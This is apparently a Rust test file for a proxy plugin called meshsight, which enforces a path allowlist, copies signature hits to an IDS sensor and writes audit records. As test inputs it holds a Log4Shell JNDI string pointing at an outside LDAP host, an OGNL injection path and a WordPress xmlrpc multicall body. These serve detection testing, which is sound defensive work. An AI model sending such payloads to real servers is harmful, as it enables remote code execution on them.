//! The one-pass plugin (root id `meshsight`, all three jobs from one policy document) driven
//! natively: an attack the allowlist stops is still copied to the sensor and recorded as an
//! attack; decisions reach filter state and the audit record in memory; one bad section refuses
//! the whole document.
// Helpers outside `#[test]` functions are test code too.
#![allow(clippy::panic, clippy::unwrap_used, clippy::expect_used)]

mod stats;
use meshsight_policy::decision::{
    AllowlistDecision, AllowlistOutcome, MirrorDecision, MirrorReason, ALLOWLIST_DECISION_PROPERTY,
    MIRROR_DECISION_PROPERTY,
};
use proxy_wasm_test_host::{Action, Host, HttpCall, LogLevel};
use serde_json::Value;
use stats::counter;

/// The SOC deployment of the measurement in the one-pass issue: enforce only `GET /public/**`,
/// copy signature hits to a dispatch sensor, record everything to the log.
fn policy(mirror_extra: &str) -> String {
    format!(
        r#"{{
  "allowlist": {{"mode": "enforce", "rules": [{{"name": "public", "methods": ["GET"], "paths": ["/public/**"]}}]}},
  "mirror": {{"targets": {{"ids": {{"cluster": "sensor", "delivery": "dispatch", "max_rps": 1000}}}}{mirror_extra}}},
  "audit": {{}}
}}"#
    )
}

fn start(config: &str) -> Host {
    Host::builder(meshsight::register)
        .plugin_config(config)
        .start()
        .unwrap_or_else(|e| panic!("configure failed: {e}"))
}

fn request(host: &mut Host, method: &str, path: &str, extra: &[(&str, &str)]) -> (u32, Action) {
    let id = host.new_http_stream();
    host.set_stream_property(id, &["source", "address"], "10.1.2.3:5555");
    let mut headers = vec![
        (":method", method),
        (":path", path),
        (":authority", "shop.example.com"),
        (":scheme", "http"),
        ("x-request-id", "req-1"),
    ];
    headers.extend_from_slice(extra);
    let action = host.request_headers(id, &headers, true);
    (id, action)
}

fn finish(host: &mut Host, id: u32) {
    if host.local_response(id).is_some() {
        host.encode_local_response(id);
    } else {
        host.response_headers(id, &[(":status", "200")], true);
    }
    host.log(id);
    host.done(id);
}

fn records(host: &Host) -> Vec<Value> {
    host.logs()
        .iter()
        .filter(|e| e.message.starts_with('{'))
        .map(|e| serde_json::from_str(&e.message).expect("a JSON record"))
        .collect()
}

fn sensor_calls(host: &mut Host) -> Vec<HttpCall> {
    host.tick();
    host.http_calls()
        .into_iter()
        .filter(|c| c.upstream == "sensor")
        .collect()
}

fn header<'a>(call: &'a HttpCall, name: &str) -> Option<&'a str> {
    call.headers
        .iter()
        .find(|(n, _)| n == name)
        .map(|(_, v)| v.as_str())
}

const LOG4SHELL: &str = "/api/lookup?q=${jndi:ldap://203.0.113.5:1389/a}";
const OGNL: &str = "/pages/createpage-entervariables.action?queryString=%5cu0027%2b%7bClass.forName%28%27javax.script.ScriptEngineManager%27%29%7d%2b%5cu0027";

#[test]
fn a_blocked_attack_is_copied_to_the_sensor_and_recorded_as_an_attack() {
    let mut host = start(&policy(""));
    for path in [LOG4SHELL, OGNL] {
        let (id, action) = request(&mut host, "GET", path, &[]);
        assert_eq!(action, Action::Pause, "{path}: answered locally");
        assert_eq!(
            host.local_response(id).map(|r| r.status),
            Some(403),
            "{path}"
        );
        finish(&mut host, id);
    }
    let calls = sensor_calls(&mut host);
    assert_eq!(calls.len(), 2, "both blocked attacks copied: {calls:?}");
    for call in &calls {
        assert_eq!(header(call, "x-meshsight-mirror-reason"), Some("signature"));
        assert!(header(call, "x-meshsight-mirror-signatures").is_some());
    }
    assert_eq!(header(&calls[0], ":path"), Some(LOG4SHELL));
    let recs = records(&host);
    assert_eq!(recs.len(), 2);
    for r in &recs {
        assert_eq!(r["disposition_id"], 2, "blocked: {r}");
        assert_eq!(r["is_alert"], true, "an attack: {r}");
        assert_eq!(r["severity_id"], 4, "high: {r}");
        assert_eq!(r["http_response"]["code"], 403);
        assert_eq!(r["attacks"][0]["technique"]["uid"], "T1190", "{r}");
        assert_eq!(r["attacks"][0]["tactic"]["name"], "Initial Access", "{r}");
    }
    assert_eq!(counter(&mut host, "meshsight_allowlist_denied"), Some(2));
    assert_eq!(
        counter(&mut host, "meshsight_mirror_mirrored_ids_signature"),
        Some(2)
    );
}

#[test]
fn copy_denied_off_keeps_the_alert_but_sends_no_copy() {
    let mut host = start(&policy(r#", "copy_denied": false"#));
    let (id, _) = request(&mut host, "GET", LOG4SHELL, &[]);
    assert_eq!(host.local_response(id).map(|r| r.status), Some(403));
    finish(&mut host, id);
    assert!(sensor_calls(&mut host).is_empty());
    let recs = records(&host);
    assert_eq!(recs[0]["is_alert"], true);
    let d: MirrorDecision = serde_json::from_slice(
        &host
            .stream_property(id, &[MIRROR_DECISION_PROPERTY])
            .expect("mirror decision in filter state"),
    )
    .unwrap();
    assert!(!d.mirrored);
    assert_eq!(d.signatures, vec!["log4shell".to_string()]);
}

#[test]
fn a_blocked_request_without_an_indicator_is_not_copied() {
    let mut host = start(&policy(
        r#", "rules": [{"name": "all", "action": {"type": "always"}}]"#,
    ));
    let (id, _) = request(&mut host, "GET", "/admin/users", &[]);
    assert_eq!(host.local_response(id).map(|r| r.status), Some(403));
    finish(&mut host, id);
    assert!(
        sensor_calls(&mut host).is_empty(),
        "rules copy traffic that flows; a denied request is copied only for a signature"
    );
    assert_ne!(
        records(&host)[0]["is_alert"],
        true,
        "no indicator: no alert"
    );
}

#[test]
fn an_allowed_request_flows_with_its_decisions_in_filter_state_and_the_record() {
    let mut host = start(&policy(
        r#", "rules": [{"name": "all", "action": {"type": "always"}}]"#,
    ));
    let (id, action) = request(&mut host, "GET", "/public//a/./b", &[]);
    assert_eq!(action, Action::Continue);
    assert!(host.local_response(id).is_none());
    let path = host
        .request_header_map(id)
        .into_iter()
        .find(|(n, _)| n == ":path")
        .map(|(_, v)| v);
    assert_eq!(path.as_deref(), Some("/public/a/b"), "rewritten by default");
    finish(&mut host, id);
    let allow: AllowlistDecision = serde_json::from_slice(
        &host
            .stream_property(id, &[ALLOWLIST_DECISION_PROPERTY])
            .unwrap(),
    )
    .unwrap();
    assert_eq!(allow.outcome, AllowlistOutcome::Allowed);
    let mirror: MirrorDecision = serde_json::from_slice(
        &host
            .stream_property(id, &[MIRROR_DECISION_PROPERTY])
            .unwrap(),
    )
    .unwrap();
    assert_eq!(mirror.reason, MirrorReason::Rule);
    assert_eq!(sensor_calls(&mut host).len(), 1);
    let r = &records(&host)[0];
    assert_eq!(r["disposition_id"], 1, "allowed: {r}");
    assert_ne!(r["is_alert"], true);
    assert_eq!(r["src_endpoint"]["ip"], "10.1.2.3");
}

#[test]
fn a_client_decision_header_is_removed_before_any_job_reads_the_head() {
    let mut host = start(&policy(""));
    let (id, _) = request(
        &mut host,
        "GET",
        "/public/a",
        &[("x-meshsight-mirror", "ids")],
    );
    assert!(host
        .request_header_map(id)
        .iter()
        .all(|(n, _)| n != "x-meshsight-mirror"));
    assert_eq!(
        counter(&mut host, "meshsight_mirror_spoofed_header_removed"),
        Some(1)
    );
}

#[test]
fn one_bad_section_refuses_the_document_with_its_json_path() {
    let bad = r#"{"allowlist": {"rules": []}, "mirror": {"targets": {"ids": {"cluster": "s", "delivery": "carrier-pigeon"}}}}"#;
    let err = match Host::builder(meshsight::register)
        .plugin_config(bad)
        .start()
    {
        Ok(_) => panic!("accepted a bad mirror section"),
        Err(e) => e,
    };
    let errors: Vec<String> = err
        .logs()
        .iter()
        .filter(|l| l.level == LogLevel::Error)
        .map(|l| l.message.clone())
        .collect();
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert!(
        errors[0].contains("mirror.targets.ids.delivery"),
        "{}",
        errors[0]
    );
    let unknown = Host::builder(meshsight::register)
        .property(&["plugin_root_id"], "meshsight_firewall")
        .plugin_config("{}")
        .start();
    assert!(unknown.is_err(), "an unknown root id is refused");
}

#[test]
fn connection_facts_are_read_once_per_connection() {
    let mut host = start(
        r#"{"allowlist": {"rules": [{"name": "office", "sources": {"cidrs": ["10.0.0.0/8"]}}]}}"#,
    );
    for _ in 0..3 {
        let id = host.new_http_stream();
        host.set_stream_property(id, &["connection", "id"], 7u64.to_le_bytes());
        host.set_stream_property(id, &["source", "address"], "10.9.9.9:1");
        host.request_headers(
            id,
            &[(":method", "GET"), (":path", "/"), (":authority", "h")],
            true,
        );
        assert!(host.local_response(id).is_none());
    }
    // A later request on the same connection id uses the cached address even though this
    // stream's property says otherwise: the facts are the connection's.
    let id = host.new_http_stream();
    host.set_stream_property(id, &["connection", "id"], 7u64.to_le_bytes());
    host.set_stream_property(id, &["source", "address"], "192.0.2.1:1");
    host.request_headers(
        id,
        &[(":method", "GET"), (":path", "/"), (":authority", "h")],
        true,
    );
    assert!(host.local_response(id).is_none(), "cached per connection");
    // Another connection reads its own.
    let id = host.new_http_stream();
    host.set_stream_property(id, &["connection", "id"], 8u64.to_le_bytes());
    host.set_stream_property(id, &["source", "address"], "192.0.2.1:1");
    host.request_headers(
        id,
        &[(":method", "GET"), (":path", "/"), (":authority", "h")],
        true,
    );
    assert_eq!(host.local_response(id).map(|r| r.status), Some(403));
}

#[test]
fn with_hold_for_body_a_denied_request_is_held_until_its_body_is_scanned() {
    let mut host = start(&policy(r#", "hold_for_body": true"#));
    let id = host.new_http_stream();
    let headers = [
        (":method", "POST"),
        (":path", "/xmlrpc.php"),
        (":authority", "blog.example.com"),
        ("content-type", "text/xml"),
        ("x-request-id", "req-body"),
    ];
    assert_eq!(host.request_headers(id, &headers, false), Action::Pause);
    assert!(
        host.local_response(id).is_none(),
        "the reply waits for the body"
    );
    let body = b"<?xml version=\"1.0\"?><methodCall><methodName>system.multicall</methodName></methodCall>";
    host.request_body(id, body, true);
    assert_eq!(host.local_response(id).map(|r| r.status), Some(403));
    finish(&mut host, id);
    let calls = sensor_calls(&mut host);
    assert_eq!(calls.len(), 1, "{calls:?}");
    assert_eq!(
        header(&calls[0], "x-meshsight-mirror-signatures"),
        Some("wordpress_xmlrpc")
    );
    assert_eq!(calls[0].body, body.to_vec());
    assert_eq!(records(&host)[0]["is_alert"], true);
}

#[test]
fn without_hold_for_body_a_denied_request_is_answered_at_its_head() {
    let mut host = start(&policy(""));
    let id = host.new_http_stream();
    let headers = [
        (":method", "POST"),
        (":path", "/xmlrpc.php"),
        (":authority", "blog.example.com"),
        ("content-type", "text/xml"),
    ];
    assert_eq!(host.request_headers(id, &headers, false), Action::Pause);
    assert_eq!(host.local_response(id).map(|r| r.status), Some(403));
}

/// What decoding found wrong in an allowed request's body (a multipart form never closed, a
/// gzip stream cut short) is named in the decision, the audit record and a counter; the
/// request goes on and nothing is copied.
#[test]
fn decoding_findings_reach_the_decision_the_record_and_the_counters() {
    let mut host = start(
        r#"{
  "allowlist": {"mode": "enforce", "rules": [{"name": "writes", "methods": ["POST"], "paths": ["/api/**"]}]},
  "mirror": {"targets": {"ids": {"cluster": "sensor", "delivery": "dispatch"}}, "hold_for_body": true},
  "audit": {}
}"#,
    );
    let unclosed = b"--b\r\nContent-Disposition: form-data; name=note\r\n\r\nhello\r\n".to_vec();
    let cut_gzip = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255, 0x4b, 0x4c];
    let cases = [
        (
            "multipart/form-data; boundary=b",
            None,
            unclosed,
            "multipart_malformed",
        ),
        (
            "application/json",
            Some("gzip"),
            cut_gzip,
            "body_encoding_broken",
        ),
    ];
    for (i, (content_type, encoding, body, finding)) in cases.iter().enumerate() {
        let id = host.new_http_stream();
        let length = body.len().to_string();
        let mut headers = vec![
            (":method", "POST"),
            (":path", "/api/upload"),
            (":authority", "shop.example.com"),
            (":scheme", "http"),
            ("content-type", *content_type),
            ("content-length", length.as_str()),
        ];
        if let Some(e) = encoding {
            headers.push(("content-encoding", e));
        }
        host.request_headers(id, &headers, false);
        assert_eq!(host.request_body(id, body, true), Action::Continue);
        finish(&mut host, id);
        let mirror: MirrorDecision = serde_json::from_slice(
            &host
                .stream_property(id, &[MIRROR_DECISION_PROPERTY])
                .unwrap(),
        )
        .unwrap();
        assert_eq!(
            (mirror.mirrored, mirror.findings.as_slice()),
            (false, &[finding.to_string()][..])
        );
        let r = &records(&host)[i];
        assert_eq!(
            r["unmapped"]["meshsight"]["mirror"]["findings"],
            serde_json::json!([finding]),
            "{r}"
        );
        assert_eq!(r["disposition_id"], 1, "the request went on: {r}");
        assert_ne!(r["is_alert"], true);
        assert_eq!(
            counter(&mut host, &format!("meshsight_mirror_decode_{finding}")),
            Some(1)
        );
    }
    assert_eq!(
        counter(&mut host, "meshsight_mirror_decode_body_inflate_bomb"),
        Some(0)
    );
    assert!(sensor_calls(&mut host).is_empty());
}
